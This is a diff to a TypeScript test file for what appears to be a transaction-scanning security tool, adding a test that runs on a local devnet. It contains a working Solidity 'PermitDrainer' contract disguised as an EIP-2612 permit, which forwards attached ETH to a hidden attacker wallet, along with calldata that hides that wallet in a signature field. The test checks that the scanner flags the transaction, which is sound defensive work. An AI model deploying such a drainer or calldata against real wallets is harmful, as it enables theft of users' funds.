@@ -11,6 +11,7 @@ import {
   getAddress,
   http,
   numberToHex,
+  pad,
   parseAbi,
   parseEther,
 } from 'viem'
@@ -36,6 +37,17 @@ contract Forwarder {
     }
 }`
 
+/** Looks like an EIP-2612 permit, and sends the ETH that comes with it to a wallet of its own. */
+const permitDrainerSource = (hidden: Address) => `
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.24;
+contract PermitDrainer {
+    function permit(address, address, uint256, uint256, uint8, bytes32, bytes32) external payable {
+        (bool ok,) = ${hidden}.call{value: msg.value}("");
+        require(ok, "forward failed");
+    }
+}`
+
 describe('a drain behind execute calldata', () => {
   let devnet: Devnet
   beforeAll(async () => {
@@ -55,6 +67,29 @@ describe('a drain behind execute calldata', () => {
       abi: parseAbi(['function execute(address dest, uint256 value, bytes func) payable']),
       functionName: 'execute',
       args: [hidden, 0n, '0x'],
+    })
+    const tx: TxRequest = { from: user, to: FORWARDER, data, value: numberToHex(parseEther('5')) }
+    const { outcome } = await scanTransactionsWithStats(scanRequest(tx), { rpcUrl: fixtures.rpcUrl, chainId: 31337 })
+    if (!outcome.ok) throw new Error(JSON.stringify(outcome.error))
+    validateTransactionsResponse(outcome.response)
+    expect(outcome.response.action).toBe('WARN')
+    expect(outcome.response.warnings.map((warning) => warning.kind)).toContain('SUSPECTED_MALICIOUS')
+    const executed = await expectRealityMatches(fixtures.rpcUrl, outcome.response, tx)
+    expect(executed.get(`${hidden.toLowerCase()}|native`)).toBe(parseEther('5'))
+  })
+
+  it('a permit whose signature word holds the hidden wallet does not name it: SUSPECTED_MALICIOUS, as executed', async () => {
+    const { fixtures } = devnet
+    const hidden = getAddress(fixtures.drainer.attacker)
+    await createTestClient({ mode: 'anvil', transport: http(fixtures.rpcUrl) }).setCode({
+      address: FORWARDER,
+      bytecode: runtimeCode('PermitDrainer.sol', permitDrainerSource(hidden), 'PermitDrainer'),
+    })
+    const user = fixtures.accounts[1]?.address as Address
+    const data = encodeFunctionData({
+      abi: parseAbi(['function permit(address, address, uint256, uint256, uint8, bytes32 r, bytes32 s)']),
+      functionName: 'permit',
+      args: [user, FORWARDER, 0n, 0n, 27, pad(hidden), pad('0x01')],
     })
     const tx: TxRequest = { from: user, to: FORWARDER, data, value: numberToHex(parseEther('5')) }
     const { outcome } = await scanTransactionsWithStats(scanRequest(tx), { rpcUrl: fixtures.rpcUrl, chainId: 31337 })
